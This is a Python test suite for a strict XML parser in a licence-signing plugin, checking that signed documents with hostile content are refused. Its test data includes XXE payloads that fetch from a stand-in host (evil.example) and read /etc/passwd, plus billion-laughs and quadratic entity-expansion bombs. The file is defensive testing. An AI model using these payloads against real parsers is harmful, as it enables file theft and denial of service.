"""XML behind a valid signature: no document type, no entities, no second meaning."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from solicense_plugin.domain.errors import Fault, PackageRefused
from solicense_plugin.issuer.documents import to_xml
from solicense_plugin.packages import strict_xml
from solicense_plugin.packages.strict_json import MAX_DEPTH
from tests.support.hostile import read, refusal
from tests.support.signing import Issuer, document

GOOD = to_xml(document()).decode()
HEAD, BODY = GOOD.split("\n", 1)
BILLION_LAUGHS = "".join(f'<!ENTITY lol{n} "{f"&lol{n - 1};" * 10}">' for n in range(1, 10))


def with_doctype(doctype: str, body: str = BODY) -> str:
    return f"{HEAD}\n{doctype}\n{body}"


def with_serial(value: str) -> str:
    return BODY.replace("1010000006", value)


def xml_refusal(issuer: Issuer, content: str | bytes) -> tuple[Fault, str]:
    signed = content if isinstance(content, bytes) else content.encode()
    refused = refusal(issuer.sign(signed, "application/xml"), issuer.roots)
    return refused.fault, refused.detail


def test_the_document_that_is_spoilt_below_is_good(issuer: Issuer) -> None:
    signed = issuer.sign(GOOD.encode(), "application/xml")
    assert read(signed, issuer.roots).package.identity.serial_number == "1010000006"


@pytest.mark.parametrize(
    "content",
    [
        pytest.param(with_doctype("<!DOCTYPE LicenseInfo>"), id="doctype"),
        pytest.param(
            with_doctype('<!DOCTYPE LicenseInfo SYSTEM "http://evil.example/a.dtd">'), id="foreign"
        ),
        pytest.param(
            with_doctype('<!DOCTYPE LicenseInfo [<!ENTITY s "1010000006">]>', with_serial("&s;")),
            id="entity",
        ),
        pytest.param(
            with_doctype(
                '<!DOCTYPE LicenseInfo [<!ENTITY s SYSTEM "file:///etc/passwd">]>',
                with_serial("&s;"),
            ),
            id="a-file-of-the-server",
        ),
        pytest.param(
            with_doctype('<!DOCTYPE LicenseInfo [<!ENTITY % p SYSTEM "http://evil.example/">%p;]>'),
            id="parameter-entity",
        ),
        pytest.param(
            with_doctype(
                f'<!DOCTYPE LicenseInfo [<!ENTITY lol0 "lol">{BILLION_LAUGHS}]>',
                with_serial("&lol9;"),
            ),
            id="billion-laughs",
        ),
        pytest.param(
            with_doctype(
                f'<!DOCTYPE LicenseInfo [<!ENTITY a "{"a" * 50_000}">]>',
                with_serial("&a;" * 50_000),
            ),
            id="quadratic-blow-up",
        ),
        pytest.param(
            with_doctype("<!DOCTYPE LicenseInfo [<!ATTLIST Text lang CDATA 'da'>]>"),
            id="attributes-by-default",
        ),
    ],
)
def test_a_document_type_or_entity_is_refused(issuer: Issuer, content: str) -> None:
    assert xml_refusal(issuer, content) == (Fault.FORBIDDEN_XML, "")


@pytest.mark.parametrize(
    "content, detail",
    [
        pytest.param(" ", "XML", id="a-space"),
        pytest.param("{}", "XML", id="json"),
        pytest.param(GOOD[:-4], "XML", id="cut-off"),
        pytest.param(GOOD + "<More/>", "XML", id="two-roots"),
        pytest.param(with_serial("&undefined;"), "XML", id="an-entity-that-nobody-defined"),
        pytest.param(with_serial("&#xD800;"), "XML", id="half-a-surrogate"),
        pytest.param(with_serial("&#0;"), "XML", id="nul"),
        pytest.param(with_serial("\x00"), "XML", id="a-bare-nul"),
        pytest.param(with_serial("\x1b"), "XML", id="a-control-character"),
        pytest.param(BODY.replace("LicenseInfo", "Licence"), "LicenseInfo", id="another-root"),
        pytest.param(
            BODY.replace("<LicenseInfo>", '<LicenseInfo xmlns="urn:x">'),
            "LicenseInfo",
            id="a-namespace",
        ),
        pytest.param("<LicenseInfo>text</LicenseInfo>", "LicenseInfo", id="text-alone"),
        pytest.param("<LicenseInfo/>", "LicenseInfo", id="empty"),
        pytest.param(f"<?xml version='1.0' encoding='no-such'?>{BODY}", "XML", id="no-encoding"),
        pytest.param(f"<?xml version='1.0' encoding='utf-7'?>{BODY}", "XML", id="utf-7"),
        pytest.param(f"<?xml version='1.0' encoding='hex'?>{BODY}", "XML", id="hex"),
        pytest.param(f"<?xml version='1.0' encoding='idna'?>{BODY}", "XML", id="idna"),
    ],
)
def test_what_is_no_sound_xml_is_refused(issuer: Issuer, content: str, detail: str) -> None:
    assert xml_refusal(issuer, content) == (Fault.MALFORMED, detail)


def test_bytes_that_are_not_in_the_encoding_are_refused(issuer: Issuer) -> None:
    assert xml_refusal(issuer, GOOD.encode().replace(b"AS<", b"\xff<"))[0] is Fault.MALFORMED


@pytest.mark.parametrize("encoding", ["utf-16", "iso-8859-1", "windows-1252"])
def test_the_encoding_is_the_one_that_it_declares(issuer: Issuer, encoding: str) -> None:
    content = f"<?xml version='1.0' encoding='{encoding}'?>{BODY}".replace("Design AS", "Døgn AS")
    signed = issuer.sign(content.encode(encoding), "application/xml")
    assert read(signed, issuer.roots).package.identity.company_name == "Nordlys Døgn AS"


@pytest.mark.parametrize(
    "old, new, detail",
    [
        pytest.param(
            "</LicenseInfo>", "<SerialNr>1</SerialNr></LicenseInfo>", "SerialNr", id="a-field"
        ),
        pytest.param(
            "</LicenseInfo>",
            "<ModuleLicenses/></LicenseInfo>",
            "ModuleLicenses",
            id="the-list-of-licences",
        ),
        pytest.param(
            "</ModuleLicense>",
            "<NumberOfLicenses>999</NumberOfLicenses></ModuleLicense>",
            "NumberOfLicenses",
            id="a-field-of-a-licence",
        ),
        pytest.param(
            "</LicenseInfo>",
            "<OwnerDescriptions><Text lang='da'>A</Text><Text lang='da'>B</Text>"
            "</OwnerDescriptions></LicenseInfo>",
            "da",
            id="a-translation",
        ),
    ],
)
def test_an_element_that_says_two_things_is_refused(
    issuer: Issuer, old: str, new: str, detail: str
) -> None:
    assert xml_refusal(issuer, BODY.replace(old, new)) == (Fault.DUPLICATE_KEY, detail)


@pytest.mark.parametrize("depth", [MAX_DEPTH, 1000, 100_000])
def test_an_element_too_deep_is_refused(issuer: Issuer, depth: int) -> None:
    nested = "<x>" * depth + "</x>" * depth
    content = BODY.replace("</LicenseInfo>", f"{nested}</LicenseInfo>")
    assert xml_refusal(issuer, content) == (Fault.TOO_DEEP, "")


def test_the_greatest_depth_is_accepted(issuer: Issuer) -> None:
    depth = MAX_DEPTH - 1
    nested = "<x>" * depth + "</x>" * depth
    content = BODY.replace("</LicenseInfo>", f"{nested}</LicenseInfo>")
    read(issuer.sign(content.encode(), "application/xml"), issuer.roots)


def test_comments_and_instructions_mean_nothing(issuer: Issuer) -> None:
    content = BODY.replace(
        "<SerialNr>1010", "<!-- <SerialNr>7</SerialNr> --><?evil?><SerialNr>10<!-- x -->10"
    )
    signed = issuer.sign(content.encode(), "application/xml")
    assert read(signed, issuer.roots).package.identity.serial_number == "1010000006"


def test_a_translation_needs_its_language(issuer: Issuer) -> None:
    content = BODY.replace(
        "</LicenseInfo>",
        "<OwnerDescriptions><Text>A</Text></OwnerDescriptions></LicenseInfo>",
    )
    assert xml_refusal(issuer, content) == (Fault.MALFORMED, "OwnerDescriptions.Text")


@given(st.binary() | st.text().map(lambda text: f"<LicenseInfo>{text}</LicenseInfo>".encode()))
def test_any_bytes_are_read_or_refused(content: bytes) -> None:
    try:
        strict_xml.loads(content)
    except PackageRefused:
        return
